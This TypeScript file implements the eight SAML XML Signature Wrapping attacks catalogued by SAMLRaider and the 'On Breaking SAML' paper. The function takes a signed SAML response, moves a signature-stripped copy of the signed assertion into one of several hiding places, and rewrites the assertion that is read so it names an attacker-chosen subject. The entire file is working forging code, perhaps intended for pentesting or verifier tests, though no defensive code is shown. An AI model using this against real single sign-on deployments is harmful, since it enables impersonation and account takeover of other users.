import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * The eight ways of SAMLRaider to bring a signed message in one that nobody signed ("On Breaking SAML", 2012): somebody else's name stands
 * where it is read, the signed one where its signature is looked for.
 */
export function wrapped(xml: string, way: number, subject: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const root = document.documentElement;
  const child = (parent: Element, name: string): Element =>
    Array.from(parent.childNodes).find((node): node is Element => (node as Element).localName === name)!;
  const without = (element: Element): Element => {
    element.removeChild(child(element, 'Signature'));
    return element;
  };
  const copy = (element: Element): Element => element.cloneNode(true) as Element;
  const forge = (assertion: Element): Element => {
    assertion.setAttribute('ID', '_forged');
    child(child(assertion, 'Subject'), 'NameID').textContent = subject;
    return assertion;
  };
  const original = child(root, 'Assertion');
  const signature = child(original, 'Signature');

  if (way <= 2) {
    const signed = without(copy(root)); // as it is signed: without its own signature
    root.setAttribute('ID', '_forged-response');
    forge(original);
    const own = child(root, 'Signature');
    if (way === 1) own.appendChild(signed);
    else root.insertBefore(signed, own);
  } else if (way === 3) root.insertBefore(without(forge(copy(original))), original);
  else if (way === 4) {
    const forged = without(forge(copy(original)));
    root.replaceChild(forged, original);
    forged.appendChild(original);
  } else if (way === 5 || way === 6 || way === 8) {
    const signed = without(copy(original));
    forge(original);
    if (way === 5) root.appendChild(signed);
    else if (way === 6) signature.appendChild(signed);
    else {
      const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
      object.appendChild(signed);
      signature.appendChild(object);
    }
  } else {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(without(forge(copy(original))));
    root.insertBefore(extensions, root.firstChild);
  }
  return new XMLSerializer().serializeToString(document);
}
